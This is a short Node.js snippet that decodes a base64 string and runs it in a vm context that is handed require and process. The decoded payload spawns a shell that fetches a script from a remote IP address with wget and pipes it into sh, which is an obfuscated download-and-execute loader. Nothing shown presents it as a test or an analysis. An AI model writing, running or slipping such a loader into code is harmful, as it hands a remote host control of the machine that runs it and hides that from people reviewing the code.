// decode-exec: decoded source run in a vm context that is handed require and process
const vm = require('vm');
const src = Buffer.from('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLnNwYXduKCJzaCIsIFsiLWMiLCAid2dldCAtcU8tIGh0dHA6Ly8yMDMuMC4xMTMuNy92IHwgc2giXSk=', 'base64').toString();
vm.runInNewContext(src, { require, process });
